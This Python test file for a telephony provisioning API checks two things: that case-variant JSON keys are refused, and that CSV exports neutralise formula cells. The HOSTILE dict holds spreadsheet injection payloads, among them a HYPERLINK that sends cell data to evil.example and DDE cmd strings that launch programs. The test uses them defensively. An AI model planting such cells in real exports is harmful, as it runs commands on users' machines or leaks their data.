"""Issue 21 items 9 and 11: keys are matched exactly (a case variant of a known key is refused
by name and changes nothing), and CSV cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from typing import Any

import asyncpg
import pytest

from bridge.api.provision.shapes import CSV_COLUMNS
from tests.api.conftest import Api
from tests.api.helpers import DOMAIN, auth
from tests.api.provision.test_provision import EXT_PASSWORD, USER_PASSWORD, admin_id, call

NEW_PASSWORD = "Rotated9Secret"


async def snapshot(conn: asyncpg.Connection) -> list[Any]:
    users = await conn.fetch("SELECT * FROM users ORDER BY id")
    extensions = await conn.fetch("SELECT * FROM extensions ORDER BY id")
    return [*map(dict, users), *map(dict, extensions)]


def _cases() -> list[Any]:
    return [
        pytest.param(
            "PUT", "/api/extensions/{ext}", {"Password": NEW_PASSWORD}, "Password", id="extension-Password"
        ),
        pytest.param("PUT", "/api/extensions/{ext}", {"EXTN": "1009"}, "EXTN", id="extension-EXTN"),
        pytest.param(
            "PUT", "/api/extensions/{ext}", {"Domain": "other.test"}, "Domain", id="extension-Domain"
        ),
        pytest.param("PUT", "/api/extensions/{ext}", {"User_Id": 0}, "User_Id", id="extension-User_Id"),
        pytest.param("PUT", "/api/extensions/{ext}", {"VOICEMAIL": 1}, "VOICEMAIL", id="extension-VOICEMAIL"),
        pytest.param(
            "POST",
            "/api/extensions",
            {"extn": "1500", "user_id": "{me}", "Password": EXT_PASSWORD},
            "Password",
            id="create-extension-Password",
        ),
        pytest.param(
            "PUT", "/api/extensions", {"extns": ["1001"], "Disabled": 1}, "Disabled", id="bulk-Disabled"
        ),
        pytest.param("PUT", "/api/extensions", {"EXTNS": ["1001"], "disabled": 1}, "EXTNS", id="bulk-EXTNS"),
        pytest.param("PUT", "/api/users/{me}", {"Name": "Mallory"}, "Name", id="user-Name"),
        pytest.param("PUT", "/api/users/{me}", {"Password": USER_PASSWORD}, "Password", id="user-Password"),
        pytest.param(
            "POST",
            "/api/users",
            {"login": "zed", "name": "Zed", "password": USER_PASSWORD, "Domain": "other.test"},
            "Domain",
            id="create-user-Domain",
        ),
    ]


@pytest.mark.parametrize(("method", "path", "body", "key"), _cases())
async def test_given_a_case_variant_of_a_known_key_then_refused_by_name_and_nothing_changes(
    api: Api, conn: asyncpg.Connection, method: str, path: str, *, body: dict[str, Any], key: str
) -> None:
    me = await admin_id(conn)
    ext = await conn.fetchval("SELECT id FROM extensions WHERE extn = '1001'")
    url = path.format(ext=ext, me=me)
    filled = {k: (me if v == "{me}" else v) for k, v in body.items()}
    before = await snapshot(conn)
    status, answer = await call(api, method, url, filled)
    assert status == 400, answer
    assert answer["message"].startswith(f"{key}: ")
    assert "case-sensitive" in answer["message"]
    assert await snapshot(conn) == before


async def test_the_documents_own_Voicemail_spelling_is_read_as_voicemail(
    api: Api, conn: asyncpg.Connection
) -> None:
    await conn.execute("UPDATE extensions SET voicemail = 0 WHERE extn = '1001'")
    status, answer = await call(api, "PUT", "/api/extensions", {"extns": ["1001"], "Voicemail": "1"})
    assert status == 200, answer
    assert await conn.fetchval("SELECT voicemail FROM extensions WHERE extn = '1001'") == 1


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cid_name": "+cmd|' /C calc'!A0",
    "cid_number": "-2+3+cmd|' /C notepad'!A0",
    "context": "@SUM(1+1)*cmd|' /C calc'!A0",
    "password": "\t=1+1",
    "type": "\r=1+1",
}


async def test_given_formula_cells_when_downloaded_then_each_is_neutralised(
    api: Api, conn: asyncpg.Connection
) -> None:
    # Written as XUI or psql could write them (the API refuses the control characters).
    assignments = ", ".join(f"{column} = ${i + 1}" for i, column in enumerate(HOSTILE))
    await conn.execute(f"UPDATE extensions SET {assignments} WHERE extn = '1002'", *HOSTILE.values())
    response = await api.client.get("/api/extensions/download", headers=auth(api.token))
    assert response.status == 200
    rows = list(csv.reader(io.StringIO(await response.text())))
    header, body = rows[0], {row[1]: row for row in rows[1:]}
    row = dict(zip(CSV_COLUMNS, body["1002"], strict=True))
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert header[0] == "分机ID"
    # Ordinary cells are untouched.
    assert body["1001"][2:] == ["1001", "Test1234pw", "default", "", "", DOMAIN, "SIP"]
